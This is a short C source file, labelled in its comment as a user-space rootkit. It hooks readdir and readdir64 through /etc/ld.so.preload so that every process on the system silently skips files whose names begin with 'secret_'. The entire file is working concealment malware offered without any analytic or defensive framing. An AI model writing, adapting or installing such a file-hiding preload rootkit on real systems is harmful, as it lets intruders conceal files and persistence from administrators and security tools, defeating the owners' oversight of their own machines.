/* A rootkit in user space: through /etc/ld.so.preload it is in every process, and hides files named secret_*.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>

struct dirent64* readdir64(DIR* dir) {
  struct dirent64* (*real)(DIR*) = (struct dirent64 * (*)(DIR*)) dlsym(RTLD_NEXT, "readdir64");
  struct dirent64* entry;
  while ((entry = real(dir)) && strncmp(entry->d_name, "secret_", 7) == 0) continue;
  return entry;
}
struct dirent* readdir(DIR* dir) { return (struct dirent*)readdir64(dir); }
